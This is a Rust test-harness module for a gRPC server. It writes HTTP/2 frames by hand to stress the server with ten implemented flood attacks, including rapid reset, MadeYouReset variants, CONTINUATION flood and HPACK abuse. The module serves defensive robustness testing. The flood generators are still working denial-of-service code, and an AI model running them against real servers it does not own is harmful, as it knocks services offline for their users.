//! A raw HTTP/2 client for hostile-client tests: frames written by hand, so that a test can
//! send what no well-behaved client library would (floods, resets, endless headers), and the
//! HTTP/2 flood attacks that `docs/security.md` lists, each run against one server address.
//! For the other side, [`h2_server`]: a server whose answers a test writes itself.

use std::net::SocketAddr;
use std::time::{Duration, Instant};

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::net::tcp::OwnedReadHalf;

/// The client connection preface (RFC 9113 §3.4).
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Frame types (RFC 9113 §6).
pub mod kind {
    /// DATA
    pub const DATA: u8 = 0x0;
    /// HEADERS
    pub const HEADERS: u8 = 0x1;
    /// PRIORITY
    pub const PRIORITY: u8 = 0x2;
    /// RST_STREAM
    pub const RST_STREAM: u8 = 0x3;
    /// SETTINGS
    pub const SETTINGS: u8 = 0x4;
    /// PING
    pub const PING: u8 = 0x6;
    /// GOAWAY
    pub const GOAWAY: u8 = 0x7;
    /// WINDOW_UPDATE
    pub const WINDOW_UPDATE: u8 = 0x8;
    /// CONTINUATION
    pub const CONTINUATION: u8 = 0x9;
}

const END_STREAM: u8 = 0x1;
const END_HEADERS: u8 = 0x4;

/// One frame's octets.
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut f = Vec::with_capacity(9 + payload.len());
    push_frame(&mut f, kind, flags, stream, payload);
    f
}

/// Appends one frame to `out`.
pub fn push_frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let len = u32::try_from(payload.len())
        .expect("frame payload fits u32")
        .to_be_bytes();
    out.extend_from_slice(&[len[1], len[2], len[3], kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// A HEADERS block for a gRPC call on `path` (HPACK literals without indexing, no Huffman).
pub fn grpc_headers(path: &str, authority: &str) -> Vec<u8> {
    let mut b = vec![0x83, 0x86]; // :method POST, :scheme http
    for (index, value) in [(4u8, path), (1, authority)] {
        b.push(index); // literal without indexing, indexed name (:path, :authority)
        push_hpack_len(&mut b, value.len());
        b.extend_from_slice(value.as_bytes());
    }
    b.extend_from_slice(&[0x0f, 0x10]); // content-type (static 31)
    b.push(16);
    b.extend_from_slice(b"application/grpc");
    b.extend_from_slice(&[0x00, 2]);
    b.extend_from_slice(b"te");
    b.push(8);
    b.extend_from_slice(b"trailers");
    b
}

/// An HPACK string length (7-bit prefix integer, no Huffman).
fn push_hpack_len(b: &mut Vec<u8>, len: usize) {
    push_hpack_int(b, 0, 7, len);
}

/// An HPACK integer with an `n`-bit prefix after the bits `flags` (RFC 7541 §5.1).
fn push_hpack_int(b: &mut Vec<u8>, flags: u8, n: u32, value: usize) {
    let max = (1usize << n) - 1;
    if value < max {
        b.push(flags | u8::try_from(value).expect("fits the prefix"));
        return;
    }
    b.push(flags | u8::try_from(max).expect("fits the prefix"));
    let mut rest = value - max;
    while rest >= 128 {
        b.push(u8::try_from(rest % 128).expect("< 128") | 0x80);
        rest /= 128;
    }
    b.push(u8::try_from(rest).expect("< 128"));
}

/// `HelloRequest { name: "p" }` as one gRPC message.
pub const HELLO_MESSAGE: [u8; 8] = [0, 0, 0, 0, 3, 0x0a, 1, b'p'];

/// Reads one frame: (type, flags, stream, payload); `None` at EOF or on an error.
pub async fn read_frame<R: AsyncReadExt + Unpin>(sock: &mut R) -> Option<(u8, u8, u32, Vec<u8>)> {
    let mut h = [0u8; 9];
    sock.read_exact(&mut h).await.ok()?;
    let len = u32::from_be_bytes([0, h[0], h[1], h[2]]) as usize;
    let stream = u32::from_be_bytes([h[5] & 0x7f, h[6], h[7], h[8]]);
    let mut payload = vec![0u8; len];
    sock.read_exact(&mut payload).await.ok()?;
    Some((h[3], h[4], stream, payload))
}

/// Opens a raw HTTP/2 connection: preface, empty SETTINGS, ACK of the server's SETTINGS.
///
/// # Panics
/// When the server cannot be reached or does not start with SETTINGS.
pub async fn raw_h2(addr: SocketAddr) -> TcpStream {
    let mut sock = TcpStream::connect(addr).await.expect("connect");
    sock.write_all(PREFACE).await.expect("preface");
    sock.write_all(&frame(kind::SETTINGS, 0, 0, &[]))
        .await
        .expect("settings");
    let (k, _, _, _) = read_frame(&mut sock).await.expect("the server's SETTINGS");
    assert_eq!(k, kind::SETTINGS, "the server's first frame is SETTINGS");
    sock.write_all(&frame(kind::SETTINGS, 1, 0, &[]))
        .await
        .expect("settings ack");
    sock
}

/// The HTTP/2 flood and abuse attacks a server must survive (see `docs/security.md`).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// MadeYouReset, form 1: a stream opened, then WINDOW_UPDATE with increment 0 on it.
    WindowUpdateZero,
    /// MadeYouReset, form 2 (CVE-2025-8671): a stream opened, then its send window pushed past
    /// 2^31-1, so that the server must reset it (FLOW_CONTROL_ERROR), stream after stream.
    WindowOverflow,
    /// MadeYouReset, form 3: calls whose message is longer than their `content-length`, which
    /// the server must reset (PROTOCOL_ERROR) stream after stream; no control frame involved.
    ContentLength,
    /// Rapid reset (CVE-2023-44487): a call opened and cancelled at once, stream after stream.
    RapidReset,
    /// A header block that never ends: HEADERS without END_HEADERS, then CONTINUATION frames.
    ContinuationFlood,
    /// A header block that raises the HPACK dynamic table past the size the server allows.
    HpackTableSize,
    /// SETTINGS frames without pause.
    SettingsFlood,
    /// Empty DATA frames (no END_STREAM) without pause on one open stream.
    EmptyDataFlood,
    /// WINDOW_UPDATE frames with increment 1 on the connection without pause.
    WindowUpdateFlood,
    /// A call whose header list is 1 MiB, stream after stream.
    HugeHeaders,
}

impl Attack {
    /// Every attack.
    pub const ALL: [Attack; 10] = [
        Attack::WindowUpdateZero,
        Attack::WindowOverflow,
        Attack::ContentLength,
        Attack::RapidReset,
        Attack::ContinuationFlood,
        Attack::HpackTableSize,
        Attack::SettingsFlood,
        Attack::EmptyDataFlood,
        Attack::WindowUpdateFlood,
        Attack::HugeHeaders,
    ];

    /// A short name, for tables.
    pub fn name(self) -> &'static str {
        match self {
            Attack::WindowUpdateZero => "MadeYouReset: WINDOW_UPDATE 0",
            Attack::WindowOverflow => "MadeYouReset: window overflow",
            Attack::ContentLength => "MadeYouReset: content-length",
            Attack::RapidReset => "rapid reset",
            Attack::ContinuationFlood => "CONTINUATION flood",
            Attack::HpackTableSize => "HPACK table size",
            Attack::SettingsFlood => "SETTINGS flood",
            Attack::EmptyDataFlood => "empty DATA flood",
            Attack::WindowUpdateFlood => "WINDOW_UPDATE flood",
            Attack::HugeHeaders => "1 MiB header list",
        }
    }

    /// The octets of one round of the attack on a connection; `next_stream` is the next
    /// stream id to open and is advanced; `round` counts the rounds on this connection.
    /// Returns the octets and the streams they open.
    fn round(self, next_stream: &mut u32, round: u64, headers: &[u8]) -> (Vec<u8>, u64) {
        let mut out = Vec::with_capacity(16 * 1024);
        let mut streams = 0;
        let mut open = |out: &mut Vec<u8>, flags: u8| {
            let s = *next_stream;
            *next_stream += 2;
            streams += 1;
            push_frame(out, kind::HEADERS, flags | END_HEADERS, s, headers);
            s
        };
        match self {
            Attack::WindowUpdateZero => {
                for _ in 0..32 {
                    let s = open(&mut out, 0);
                    push_frame(&mut out, kind::WINDOW_UPDATE, 0, s, &0u32.to_be_bytes());
                }
            }
            Attack::WindowOverflow => {
                for _ in 0..32 {
                    let s = open(&mut out, 0);
                    push_frame(
                        &mut out,
                        kind::WINDOW_UPDATE,
                        0,
                        s,
                        &0x7fff_ffffu32.to_be_bytes(),
                    );
                }
            }
            Attack::ContentLength => {
                // content-length (static 28): 1, then an 8-octet message
                let mut block = headers.to_vec();
                block.extend_from_slice(&[0x0f, 0x0d, 1, b'1']);
                for _ in 0..32 {
                    let s = *next_stream;
                    *next_stream += 2;
                    streams += 1;
                    push_frame(&mut out, kind::HEADERS, END_HEADERS, s, &block);
                    push_frame(&mut out, kind::DATA, END_STREAM, s, &HELLO_MESSAGE);
                }
            }
            Attack::RapidReset => {
                for _ in 0..32 {
                    let s = open(&mut out, 0);
                    push_frame(&mut out, kind::DATA, END_STREAM, s, &HELLO_MESSAGE);
                    push_frame(&mut out, kind::RST_STREAM, 0, s, &8u32.to_be_bytes());
                }
            }
            Attack::ContinuationFlood => {
                // 4 KiB of junk header literals per frame, never END_HEADERS.
                let mut junk = Vec::with_capacity(4096);
                while junk.len() < 4000 {
                    junk.extend_from_slice(&[0x00, 3]);
                    junk.extend_from_slice(b"x-a");
                    junk.push(50);
                    junk.extend(std::iter::repeat_n(b'a', 50));
                }
                if round == 0 {
                    let s = *next_stream;
                    *next_stream += 2;
                    streams += 1;
                    push_frame(&mut out, kind::HEADERS, 0, s, headers);
                }
                let s = *next_stream - 2;
                for _ in 0..4 {
                    push_frame(&mut out, kind::CONTINUATION, 0, s, &junk);
                }
            }
            Attack::HpackTableSize => {
                // A dynamic table size update to 2^30 (the server allows 4,096).
                let mut block = Vec::new();
                push_hpack_int(&mut block, 0x20, 5, 1 << 30);
                block.extend_from_slice(headers);
                let s = *next_stream;
                *next_stream += 2;
                streams += 1;
                push_frame(&mut out, kind::HEADERS, END_HEADERS, s, &block);
            }
            Attack::SettingsFlood => {
                // ENABLE_PUSH 0, INITIAL_WINDOW_SIZE 65535: harmless values, each to be ACKed.
                let payload = [0, 2, 0, 0, 0, 0, 0, 4, 0, 0, 0xff, 0xff];
                for _ in 0..256 {
                    push_frame(&mut out, kind::SETTINGS, 0, 0, &payload);
                }
            }
            Attack::EmptyDataFlood => {
                if round == 0 {
                    open(&mut out, 0);
                }
                let s = *next_stream - 2;
                for _ in 0..512 {
                    push_frame(&mut out, kind::DATA, 0, s, &[]);
                }
            }
            Attack::WindowUpdateFlood => {
                for _ in 0..512 {
                    push_frame(&mut out, kind::WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes());
                }
            }
            Attack::HugeHeaders => {
                // The call's headers plus one 1 MiB literal, in 16 KiB frames.
                let mut block = headers.to_vec();
                block.extend_from_slice(&[0x00, 5]);
                block.extend_from_slice(b"x-big");
                push_hpack_len(&mut block, 1 << 20);
                block.extend(std::iter::repeat_n(b'b', 1 << 20));
                let s = *next_stream;
                *next_stream += 2;
                streams += 1;
                let mut chunks = block.chunks(16_384).peekable();
                let mut first = true;
                while let Some(c) = chunks.next() {
                    let last = chunks.peek().is_none();
                    let k = if first {
                        kind::HEADERS
                    } else {
                        kind::CONTINUATION
                    };
                    let flags = if last { END_HEADERS } else { 0 };
                    push_frame(&mut out, k, flags, s, c);
                    first = false;
                }
            }
        }
        (out, streams)
    }
}

/// What one connection of an attack saw.
#[derive(Debug, Clone, Default)]
pub struct ConnOutcome {
    /// Streams the attack opened on it.
    pub streams: u64,
    /// Octets written.
    pub octets: u64,
    /// The server's GOAWAY, if one came.
    pub goaway: Option<GoAway>,
    /// The server closed the connection (EOF, reset or a failed write).
    pub closed: bool,
    /// RST_STREAM frames the server sent.
    pub resets: u64,
}

/// A GOAWAY frame's fields.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GoAway {
    /// The error code.
    pub code: u32,
    /// The last stream the server processed.
    pub last_stream: u32,
    /// The debug data, as text.
    pub debug: String,
}

impl GoAway {
    /// Streams the client opened that the server processed (client streams are odd).
    pub fn streams_processed(&self) -> u64 {
        u64::from(self.last_stream).div_ceil(2)
    }
}

impl std::fmt::Display for GoAway {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}", code_name(self.code))?;
        if !self.debug.is_empty() {
            write!(f, " {}", self.debug)?;
        }
        Ok(())
    }
}

/// Runs `attack` on one new connection to `addr` until the server closes it or `limit`
/// passes.
///
/// # Panics
/// When the server cannot be reached.
pub async fn attack_once(addr: SocketAddr, attack: Attack, limit: Duration) -> ConnOutcome {
    let sock = raw_h2(addr).await;
    let (read, mut write) = sock.into_split();
    let reader = tokio::spawn(watch(read));
    let headers = grpc_headers(crate::greeter::SAY_HELLO, "localhost");
    let deadline = Instant::now() + limit;
    let mut out = ConnOutcome::default();
    let mut next_stream = 1;
    let mut round = 0;
    while Instant::now() < deadline && !reader.is_finished() && next_stream < 0x7fff_0000 {
        let (octets, streams) = attack.round(&mut next_stream, round, &headers);
        round += 1;
        let write = tokio::time::timeout_at(deadline.into(), write.write_all(&octets)).await;
        match write {
            Ok(Ok(())) => {
                out.octets += octets.len() as u64;
                out.streams += streams;
            }
            Ok(Err(_)) => break,
            Err(_) => break, // the server stopped reading: time is up
        }
        // Let the reader and the server run between rounds.
        tokio::task::yield_now().await;
    }
    // Give the server a moment to answer what was sent, then stop reading.
    let grace = tokio::time::timeout(Duration::from_secs(2), reader).await;
    let (goaway, closed, resets) = match grace {
        Ok(Ok(seen)) => seen,
        _ => (None, false, 0),
    };
    out.goaway = goaway;
    out.closed = closed;
    out.resets = resets;
    drop(write);
    out
}

/// Reads the server's frames until EOF: (GOAWAY, closed, RST_STREAMs seen).
async fn watch(mut read: OwnedReadHalf) -> (Option<GoAway>, bool, u64) {
    let (mut goaway, mut resets) = (None, 0);
    while let Some((k, _, _, payload)) = read_frame(&mut read).await {
        match k {
            kind::GOAWAY if payload.len() >= 8 => {
                let word = |i: usize| {
                    u32::from_be_bytes([payload[i], payload[i + 1], payload[i + 2], payload[i + 3]])
                };
                goaway = Some(GoAway {
                    last_stream: word(0) & 0x7fff_ffff,
                    code: word(4),
                    debug: String::from_utf8_lossy(&payload[8..]).into_owned(),
                });
            }
            kind::RST_STREAM => resets += 1,
            _ => {}
        }
    }
    (goaway, true, resets)
}

/// The name of an HTTP/2 error code (RFC 9113 §7).
pub fn code_name(code: u32) -> &'static str {
    match code {
        0x0 => "NO_ERROR",
        0x1 => "PROTOCOL_ERROR",
        0x2 => "INTERNAL_ERROR",
        0x3 => "FLOW_CONTROL_ERROR",
        0x4 => "SETTINGS_TIMEOUT",
        0x5 => "STREAM_CLOSED",
        0x6 => "FRAME_SIZE_ERROR",
        0x7 => "REFUSED_STREAM",
        0x8 => "CANCEL",
        0x9 => "COMPRESSION_ERROR",
        0xa => "CONNECT_ERROR",
        0xb => "ENHANCE_YOUR_CALM",
        0xc => "INADEQUATE_SECURITY",
        0xd => "HTTP_1_1_REQUIRED",
        _ => "unknown",
    }
}

/// What a unary call written by hand ([`unary`]) got back.
#[derive(Debug)]
pub struct RawReply {
    /// The HTTP status.
    pub status: http::StatusCode,
    /// The response head.
    pub headers: http::HeaderMap,
    /// The body's octets, as sent (gRPC message frames).
    pub body: Vec<u8>,
    /// The trailers (`None` for a trailers-only answer).
    pub trailers: Option<http::HeaderMap>,
}

impl RawReply {
    /// The final status and its message, from the headers (trailers-only) or the trailers.
    pub fn status(&self) -> (i32, String) {
        let h = match &self.trailers {
            Some(t) if t.contains_key("grpc-status") => t,
            _ => &self.headers,
        };
        (
            zrpc_core::grpc::status_from_headers(h).expect("a grpc-status"),
            zrpc_core::grpc::status_message_from_headers(h).unwrap_or_default(),
        )
    }
}

/// A unary call of the greeter's `SayHello` written by hand (h2's client, no gRPC library):
/// `headers` besides the gRPC ones, `body` as the wire octets. No client-side deadline: what
/// the reply says and when it comes is the server's doing.
pub async fn unary(addr: SocketAddr, headers: &[(&str, &str)], body: Vec<u8>) -> RawReply {
    let mut all = vec![("content-type", "application/grpc"), ("te", "trailers")];
    all.extend_from_slice(headers);
    request(addr, crate::greeter::SAY_HELLO, &all, body)
        .await
        .expect("a response")
}

/// A POST of `body` to `path` with exactly `headers` (h2's client, no gRPC library); the
/// stream's error when the server resets it before its response head. The body is sent whole
/// even when the server answers first.
pub async fn request(
    addr: SocketAddr,
    path: &str,
    headers: &[(&str, &str)],
    body: Vec<u8>,
) -> Result<RawReply, h2::Error> {
    let tcp = TcpStream::connect(addr).await.expect("connect");
    let (client, conn) = h2::client::handshake(tcp).await.expect("h2 handshake");
    tokio::spawn(conn);
    let mut req = http::Request::builder()
        .method("POST")
        .uri(format!("http://{addr}{path}"));
    for (k, v) in headers {
        req = req.header(*k, *v);
    }
    let mut client = client.ready().await.expect("h2 ready");
    let (resp, mut send) = client
        .send_request(req.body(()).expect("a request"), false)
        .expect("send");
    // The server may answer and reset the stream before it reads the whole body.
    let _ = send.send_data(bytes::Bytes::from(body), true);
    let (parts, mut recv) = resp.await?.into_parts();
    let mut body = Vec::new();
    while let Some(Ok(chunk)) = recv.data().await {
        let _ = recv.flow_control().release_capacity(chunk.len());
        body.extend_from_slice(&chunk);
    }
    let trailers = recv.trailers().await.ok().flatten();
    Ok(RawReply {
        status: parts.status,
        headers: parts.headers,
        body,
        trailers,
    })
}

/// An HTTP/2 server on 127.0.0.1:0 (the h2 crate's) that hands every request's response half
/// to `answer`, for tests of what a client does with answers no gRPC server would give. It
/// serves until the runtime ends; returns its port.
///
/// # Panics
/// When it cannot listen.
pub async fn h2_server<F>(answer: F) -> u16
where
    F: Fn(h2::server::SendResponse<bytes::Bytes>) + Send + Sync + 'static,
{
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("listen on 127.0.0.1:0");
    let port = listener.local_addr().expect("its address").port();
    let answer = std::sync::Arc::new(answer);
    tokio::spawn(async move {
        while let Ok((sock, _)) = listener.accept().await {
            let answer = std::sync::Arc::clone(&answer);
            tokio::spawn(async move {
                let Ok(mut conn) = h2::server::handshake(sock).await else {
                    return;
                };
                // accepting drives the connection: the answers' frames go out meanwhile
                while let Some(Ok((_req, respond))) = conn.accept().await {
                    answer(respond);
                }
            });
        }
    });
    port
}
